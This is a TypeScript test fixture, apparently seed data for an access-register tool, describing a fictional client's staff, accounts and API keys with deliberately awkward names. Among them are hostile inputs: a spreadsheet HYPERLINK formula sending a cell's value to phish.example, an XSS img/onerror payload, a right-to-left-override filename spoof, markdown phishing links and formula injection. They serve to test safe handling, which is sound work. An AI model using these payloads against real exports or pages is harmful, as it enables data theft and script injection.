import { adminKey, key, series } from '../kit/keys.ts'
import { CHIARA, HANA, LUCIA, MARA } from '../kit/northfold-people.ts'
import { guests, staff } from '../kit/people.ts'
import { account, person, type ClientPlan, type OrganizationPlan } from '../kit/plan.ts'

const OPENAI = 'org-vane-orchard'
const DOMAIN = 'vane-orchard.example'

const LONG_NAME = `Maximiliane ${'von und zu Hohenfels-Winterbach-'.repeat(6)}Ahrenshoop`

/**
 * A client with odd names: whatever people and integrations managed to type. Every list and export has to handle them.
 */
const openai: OrganizationPlan = {
  provider: 'openai',
  label: 'Vane & Orchard on OpenAI',
  organizationId: OPENAI,
  organizationName: 'Vane & Orchard',
  people: [
    ...guests([
      [MARA, 'owner', 360, {}, { reviewed: 33 }],
      [HANA, 'reader', 350, { 'Harvest Forecast': 'owner' }, { reviewed: 33 }],
      [LUCIA, 'reader', 210, { 'Recipe Writer 🍏': 'owner' }, { reviewed: 33 }],
      [CHIARA, 'reader', 95, { 'Recipe Writer 🍏': 'member' }],
    ]),
    ...staff(DOMAIN, [
      ['Gwendolyn Vane', 'owner', 358, {}, { reviewed: 33 }],
      ['Ferdinand Orchard', 'owner', 358, {}, { reviewed: 33, lastUsed: null }],
      ['Ayşe Demirtaş', 'reader', 340, { 'Harvest Forecast': 'member' }, { reviewed: 33 }],
      ['Matilde Bjørnstad', 'reader', 333, { 'Harvest Forecast': 'member' }],
      ['Kofi Amponsah', 'reader', 300, { 'Cold Chain': 'owner' }],
      ['Tiên Phạm', 'reader', 290, { 'Cold Chain': 'member' }],
      ['Róisín Kilbride', 'reader', 250, { 'Cold Chain': 'member' }],
      ['Stanislav Marković', 'reader', 230, {}],
      ['Imani Wekesa', 'reader', 202, { 'Recipe Writer 🍏': 'member' }],
      ['山田 花子', 'reader', 188, { 'Recipe Writer 🍏': 'member' }, { email: `hanako.yamada@${DOMAIN}` }],
      ['Олександр Коваль', 'reader', 180, { 'Cold Chain': 'viewer' }, { email: `o.koval@${DOMAIN}` }],
      ['김민서', 'reader', 150, { 'Harvest Forecast': 'viewer' }, { email: `minseo.kim@${DOMAIN}` }],
      ['فاطمة الزهراني', 'reader', 140, { 'Harvest Forecast': 'member' }, { email: `fatima.z@${DOMAIN}` }],
      ['\u200fליאור בן־עמי\u200f', 'reader', 133, { 'Cold Chain': 'member' }, { email: `lior@${DOMAIN}` }],
      ['Noor 🦊 Haddad', 'reader', 120, { 'Recipe Writer 🍏': 'member' }, { email: `noor@${DOMAIN}` }],
      ['Marta\nKowalczyk', 'reader', 111, { 'Cold Chain': 'member' }, { email: `marta.k@${DOMAIN}` }],
      ['Sam | Ops | **root**', 'reader', 101, { 'Cold Chain': 'member' }, { email: `sam.ops@${DOMAIN}` }],
      ['=HYPERLINK("https://phish.example/?c="&A2,"Open invoice")', 'reader', 90, {}, { email: `invoices@${DOMAIN}` }],
      [
        '<img src=x onerror=alert(1)>',
        'reader',
        80,
        { 'Recipe Writer 🍏': 'member' },
        { email: `webmaster@${DOMAIN}` },
      ],
      [LONG_NAME, 'reader', 77, { 'Harvest Forecast': 'member' }, { email: `maximiliane@${DOMAIN}` }],
      ['Zoe\u0308 Quist', 'reader', 70, { 'Recipe Writer 🍏': 'member' }, { email: `zoe.quist@${DOMAIN}` }],
      ['', 'reader', 66, { 'Cold Chain': 'member' }, { email: `packing-line-3@${DOMAIN}` }],
      ['', 'reader', 58, {}, { name: null, email: `ex.contractor@freelance.example`, lastUsed: 50 }],
      ['O’Brien, Patrick “Paddy”; QA', 'reader', 49, { 'Cold Chain': 'member' }, { email: `paddy@${DOMAIN}` }],
      ['Ulrich Pfannenstiel', 'reader', 290, { 'Harvest Forecast': 'member' }, { until: 7, lastUsed: 20 }],
    ]),
  ],
  accounts: [
    { name: 'cold-chain-gateway', project: 'Cold Chain', role: 'member', from: 280 },
    { name: 'recipe-writer', project: 'Recipe Writer 🍏', role: 'member', from: 200 },
    { name: '[click me](https://phish.example)', project: 'Harvest Forecast', role: 'member', from: 44 },
  ],
  groups: [
    {
      name: 'Growers | Süd',
      from: 150,
      members: [`invoices@${DOMAIN}`, `stanislav.markovic@${DOMAIN}`],
      projects: { 'Harvest Forecast': 'viewer' },
    },
  ],
  invites: [
    {
      email: 'apple+tester@vane-orchard.example',
      role: 'reader',
      projects: { 'Cold Chain': 'member' },
      from: 80,
      validDays: 7,
    },
  ],
  projects: [
    { name: 'Default project', from: 360, isDefault: true },
    { name: 'Harvest Forecast', from: 350 },
    { name: 'Cold Chain', from: 300, residency: 'EU_STORAGE_PROCESSING' },
    { name: 'Recipe Writer 🍏', from: 210 },
  ],
  keys: [
    adminKey('castellan-read', person(MARA.email), 12, { contact: 'Mara Lindqvist', purpose: 'Access register' }),
    key('invoice\u202Egnp.exe', 'Cold Chain', person(`sam.ops@${DOMAIN}`), 88),
    key('team-👩‍🌾👨‍🌾-share', 'Harvest Forecast', person(`fatima.z@${DOMAIN}`), 130),
    key('prod|orchard|api', 'Harvest Forecast', account('[click me](https://phish.example)'), 40),
    key('=1+1', 'Cold Chain', person(`invoices@${DOMAIN}`), 85, { lastUsed: null }),
    key('', 'Recipe Writer 🍏', person(`zoe.quist@${DOMAIN}`), 68),
    key(`k-${'x'.repeat(240)}`, 'Harvest Forecast', person(`maximiliane@${DOMAIN}`), 75),
    key('line one\nline two', 'Cold Chain', person(`marta.k@${DOMAIN}`), 100),
    key('ulrich forecast', 'Harvest Forecast', person(`ulrich.pfannenstiel@${DOMAIN}`), 280, { lastUsed: 20 }),
    key('contractor trial', 'Recipe Writer 🍏', person('ex.contractor@freelance.example'), 57, {
      expires: -12,
      lastUsed: 50,
    }),
    ...series(OPENAI, [
      {
        project: 'Harvest Forecast',
        environment: 'prod',
        team: 'harvest',
        purposes: ['yield', 'weather', 'frost', 'satellite', 'irrigation', 'labour', 'prices'],
        owners: [person(HANA.email), person(`ayse.demirtas@${DOMAIN}`)],
        contact: 'Hana Kobayashi',
      },
      {
        project: 'Harvest Forecast',
        environment: 'dev',
        team: 'harvest',
        purposes: ['yield', 'weather', 'frost', 'satellite', 'notebook', 'evals'],
        owners: [person(`ayse.demirtas@${DOMAIN}`), person(`matilde.bjornstad@${DOMAIN}`)],
      },
      {
        project: 'Harvest Forecast',
        environment: 'staging',
        team: 'harvest',
        purposes: ['yield', 'weather', 'frost', 'ci', 'replay', 'satellite'],
        owners: [person(`matilde.bjornstad@${DOMAIN}`), person(`fatima.z@${DOMAIN}`)],
      },
      {
        project: 'Cold Chain',
        environment: 'staging',
        team: 'logistics',
        purposes: ['routing', 'sensors', 'ci', 'simulator', 'handheld'],
        owners: [account('cold-chain-gateway')],
      },
      {
        project: 'Cold Chain',
        environment: 'prod',
        team: 'logistics',
        purposes: ['routing', 'sensors', 'customs', 'labels', 'alerts', 'driver-chat', 'returns'],
        owners: [account('cold-chain-gateway')],
        contact: 'Kofi Amponsah',
      },
      {
        project: 'Cold Chain',
        environment: 'dev',
        team: 'logistics',
        purposes: ['routing', 'sensors', 'customs', 'labels', 'simulator', 'notebook'],
        owners: [person(`tien.pham@${DOMAIN}`), person(`roisin.kilbride@${DOMAIN}`), person(`kofi.amponsah@${DOMAIN}`)],
      },
      {
        project: 'Recipe Writer 🍏',
        environment: 'prod',
        team: 'kitchen',
        purposes: ['recipes', 'nutrition', 'translation', 'photos', 'newsletter'],
        owners: [account('recipe-writer')],
        contact: 'Lucía Ferreira Santos',
      },
      {
        project: 'Recipe Writer 🍏',
        environment: 'dev',
        team: 'kitchen',
        purposes: ['recipes', 'nutrition', 'photos', 'prompts', 'tasting'],
        owners: [person(`imani.wekesa@${DOMAIN}`), person(`hanako.yamada@${DOMAIN}`), person(`noor@${DOMAIN}`)],
      },
    ]),
  ],
  limits: [{ project: 'Cold Chain', kind: 'spend', enforcement: 'hard', metric: 'usd', amount: 1200, period: 'month' }],
  denied: [],
  syncs: [12, 3],
}

export const vaneOrchard: ClientPlan = {
  name: 'Vane & Orchard',
  slug: 'vane-orchard',
  kind: 'client',
  colour: '#cc3311',
  domains: [DOMAIN],
  notes: 'Growers and packers.\nNames come from their staff system as typed; do not correct them here.',
  organizations: [openai],
}
